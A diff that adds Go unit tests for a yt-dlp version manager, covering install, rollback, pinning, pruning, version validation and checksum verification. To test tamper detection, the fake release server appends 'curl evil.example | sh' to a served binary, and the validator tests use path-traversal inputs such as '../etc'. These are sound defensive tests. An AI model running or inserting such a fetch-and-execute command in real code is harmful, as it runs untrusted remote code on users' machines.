@@ -0,0 +1,283 @@
+package downloader
+
+import (
+	"context"
+	"crypto/sha256"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"ybdownloader/internal/core"
+)
+
+// diskFS is a testFS whose FileExists looks at the real filesystem.
+type diskFS struct {
+	*testFS
+}
+
+func (d diskFS) FileExists(path string) bool {
+	info, err := os.Stat(path)
+	return err == nil && !info.IsDir()
+}
+
+// versionTestServer is a fake release source whose latest version is
+// latest. Setting tamper makes it serve binaries that do not match the
+// published checksums.
+type versionTestServer struct {
+	latest    string
+	downloads int
+	tamper    bool
+}
+
+func ytDlpTestBinary(version string) []byte {
+	return []byte("#!/bin/sh\necho " + version + "\n")
+}
+
+func (v *versionTestServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	parts := strings.Split(strings.TrimPrefix(r.URL.Path, "/releases/"), "/")
+	switch {
+	case r.URL.Path == "/releases/latest":
+		http.Redirect(w, r, "/releases/tag/"+v.latest, http.StatusFound)
+	case len(parts) == 3 && parts[0] == "download" && parts[2] == "SHA2-256SUMS":
+		asset, _ := ytDlpAssetName()
+		sum := sha256.Sum256(ytDlpTestBinary(parts[1]))
+		fmt.Fprintf(w, "%x  %s\n%x  yt-dlp.tar.gz\n", sum, asset, sha256.Sum256(nil))
+	case len(parts) == 3 && parts[0] == "download":
+		v.downloads++
+		body := ytDlpTestBinary(parts[1])
+		if v.tamper {
+			body = append(body, "curl evil.example | sh\n"...)
+		}
+		_, _ = w.Write(body)
+	default:
+		http.NotFound(w, r)
+	}
+}
+
+// newVersionTestManager returns a manager backed by a temp config dir and a
+// fake release source whose latest version is latest.
+func newVersionTestManager(t *testing.T, latest string, settings *core.Settings) (*YtDlpManager, *versionTestServer) {
+	t.Helper()
+	source := &versionTestServer{latest: latest}
+	srv := httptest.NewServer(source)
+	t.Cleanup(srv.Close)
+
+	fs := newTestFS()
+	fs.configDir = t.TempDir()
+	settings.YtDlpReleaseURL = srv.URL + "/releases"
+	m := NewYtDlpManager(diskFS{fs}, func() (*core.Settings, error) { return settings, nil })
+	m.smokeTest = func(context.Context, string) error { return nil }
+	return m, source
+}
+
+func noProgress(float64, string) {}
+
+func TestYtDlpManager_LatestVersion(t *testing.T) {
+	m, _ := newVersionTestManager(t, "2024.10.22", &core.Settings{})
+	got, err := m.LatestVersion(context.Background())
+	if err != nil || got != "2024.10.22" {
+		t.Errorf("LatestVersion() = %q, %v", got, err)
+	}
+}
+
+func TestYtDlpManager_InstallVersion(t *testing.T) {
+	m, source := newVersionTestManager(t, "2024.10.22", &core.Settings{})
+	ctx := context.Background()
+
+	version, err := m.InstallVersion(ctx, "", noProgress)
+	if err != nil || version != "2024.10.22" {
+		t.Fatalf("InstallVersion() = %q, %v", version, err)
+	}
+	path, err := m.GetYtDlpPath()
+	if err != nil || path != m.versionBinaryPath("2024.10.22") {
+		t.Errorf("GetYtDlpPath() = %q, %v, want managed binary", path, err)
+	}
+
+	if _, err := m.InstallVersion(ctx, "2024.08.06", noProgress); err != nil {
+		t.Fatal(err)
+	}
+	if m.currentVersion() != "2024.08.06" {
+		t.Errorf("currentVersion() = %q, want 2024.08.06", m.currentVersion())
+	}
+
+	// Installed versions are reused rather than downloaded again.
+	if _, err := m.InstallVersion(ctx, "2024.10.22", noProgress); err != nil {
+		t.Fatal(err)
+	}
+	if source.downloads != 2 {
+		t.Errorf("downloads = %d, want 2", source.downloads)
+	}
+
+	results, err := VerifyInstalledBinaries(m.getBundledDir())
+	if err != nil || len(results) != 2 || !results[0].OK || !results[1].OK {
+		t.Errorf("VerifyInstalledBinaries() = %+v, %v, want two verified binaries", results, err)
+	}
+
+	versions, err := m.InstalledVersions()
+	if err != nil || len(versions) != 2 {
+		t.Fatalf("InstalledVersions() = %+v, %v", versions, err)
+	}
+	if versions[0].Version != "2024.10.22" || !versions[0].Active || versions[1].Active {
+		t.Errorf("InstalledVersions() = %+v, want newest first and active", versions)
+	}
+}
+
+func TestYtDlpManager_InstallVersion_SmokeTestRollback(t *testing.T) {
+	m, _ := newVersionTestManager(t, "2024.10.22", &core.Settings{})
+	ctx := context.Background()
+
+	if _, err := m.InstallVersion(ctx, "2024.08.06", noProgress); err != nil {
+		t.Fatal(err)
+	}
+
+	m.smokeTest = func(context.Context, string) error { return errors.New("extractor broken") }
+	_, err := m.InstallVersion(ctx, "", noProgress)
+	if err == nil || !strings.Contains(err.Error(), "still using 2024.08.06") {
+		t.Fatalf("InstallVersion() error = %v, want rollback to 2024.08.06", err)
+	}
+	if m.currentVersion() != "2024.08.06" {
+		t.Errorf("currentVersion() = %q after failed smoke test", m.currentVersion())
+	}
+	if _, err := os.Stat(filepath.Dir(m.versionBinaryPath("2024.10.22"))); !os.IsNotExist(err) {
+		t.Error("broken version was left on disk")
+	}
+}
+
+func TestYtDlpManager_PinnedVersion(t *testing.T) {
+	settings := &core.Settings{}
+	m, _ := newVersionTestManager(t, "2024.10.22", settings)
+	ctx := context.Background()
+
+	for _, v := range []string{"2024.08.06", "2024.10.22"} {
+		if _, err := m.InstallVersion(ctx, v, noProgress); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	settings.YtDlpVersion = "2024.08.06"
+	path, _ := m.GetYtDlpPath()
+	if path != m.versionBinaryPath("2024.08.06") {
+		t.Errorf("GetYtDlpPath() = %q, want pinned version", path)
+	}
+
+	// DownloadYtDlp installs the pinned version, not the latest.
+	if err := m.DownloadYtDlp(ctx, noProgress); err != nil {
+		t.Fatal(err)
+	}
+	if m.currentVersion() != "2024.08.06" {
+		t.Errorf("currentVersion() = %q, want pinned version", m.currentVersion())
+	}
+}
+
+func TestYtDlpManager_UseAndRemoveVersion(t *testing.T) {
+	m, _ := newVersionTestManager(t, "2024.10.22", &core.Settings{})
+	ctx := context.Background()
+
+	for _, v := range []string{"2024.08.06", "2024.10.22"} {
+		if _, err := m.InstallVersion(ctx, v, noProgress); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	if err := m.UseVersion("2024.08.06"); err != nil || m.currentVersion() != "2024.08.06" {
+		t.Fatalf("UseVersion() = %v, current %q", err, m.currentVersion())
+	}
+	if err := m.UseVersion("2023.01.01"); err == nil {
+		t.Error("UseVersion() accepted a version that is not installed")
+	}
+	if err := m.RemoveVersion("2024.08.06"); err == nil {
+		t.Error("RemoveVersion() removed the active version")
+	}
+	if err := m.RemoveVersion("2024.10.22"); err != nil {
+		t.Fatal(err)
+	}
+	if versions, _ := m.InstalledVersions(); len(versions) != 1 {
+		t.Errorf("InstalledVersions() = %+v, want one left", versions)
+	}
+}
+
+func TestYtDlpManager_PruneVersions(t *testing.T) {
+	settings := &core.Settings{}
+	m, _ := newVersionTestManager(t, "2024.10.22", settings)
+	ctx := context.Background()
+
+	for _, v := range []string{"2024.01.01", "2024.02.01", "2024.03.01", "2024.04.01", "2024.05.01", "2024.06.01"} {
+		if _, err := m.InstallVersion(ctx, v, noProgress); err != nil {
+			t.Fatal(err)
+		}
+		if v == "2024.01.01" {
+			settings.YtDlpVersion = v
+		}
+	}
+
+	// The active and the pinned versions are kept besides the newest
+	// ytDlpKeepVersions others.
+	var got []string
+	versions, _ := m.InstalledVersions()
+	for _, v := range versions {
+		got = append(got, v.Version)
+	}
+	want := []string{"2024.06.01", "2024.05.01", "2024.04.01", "2024.03.01", "2024.01.01"}
+	if !slices.Equal(got, want) {
+		t.Errorf("InstalledVersions() = %q, want %q", got, want)
+	}
+}
+
+func TestCompareYtDlpVersions(t *testing.T) {
+	tests := []struct {
+		a, b string
+		want int
+	}{
+		{"2024.08.06", "2024.08.06", 0},
+		{"2024.08.06", "2024.10.22", -1},
+		{"2024.10.22", "2024.9.1", 1},
+		{"2024.08.06.232813", "2024.08.06", 1},
+	}
+	for _, tt := range tests {
+		got := compareYtDlpVersions(tt.a, tt.b)
+		if (got < 0 && tt.want >= 0) || (got > 0 && tt.want <= 0) || (got == 0 && tt.want != 0) {
+			t.Errorf("compareYtDlpVersions(%q, %q) = %d, want sign %d", tt.a, tt.b, got, tt.want)
+		}
+	}
+}
+
+func TestValidYtDlpVersion(t *testing.T) {
+	for v, want := range map[string]bool{
+		"2024.08.06":  true,
+		"nightly-1":   true,
+		"":            false,
+		"..":          false,
+		"../etc":      false,
+		"2024/08/06":  false,
+		".hidden":     false,
+		"2024.08..06": false,
+	} {
+		if got := ValidYtDlpVersion(v); got != want {
+			t.Errorf("ValidYtDlpVersion(%q) = %v, want %v", v, got, want)
+		}
+	}
+}
+
+func TestYtDlpManager_InstallVersion_ChecksumMismatch(t *testing.T) {
+	m, source := newVersionTestManager(t, "2024.10.22", &core.Settings{})
+	source.tamper = true
+
+	_, err := m.InstallVersion(context.Background(), "", noProgress)
+	var appErr *core.AppError
+	if !errors.As(err, &appErr) || appErr.Code != core.ErrCodeChecksumMismatch {
+		t.Fatalf("InstallVersion() error = %v, want CHECKSUM_MISMATCH", err)
+	}
+	if _, err := m.GetYtDlpPath(); err == nil && m.currentVersion() != "" {
+		t.Error("tampered binary was activated")
+	}
+	quarantined, _ := os.ReadDir(filepath.Join(m.getBundledDir(), quarantineDirName))
+	if len(quarantined) != 1 {
+		t.Errorf("quarantine holds %d files, want 1", len(quarantined))
+	}
+}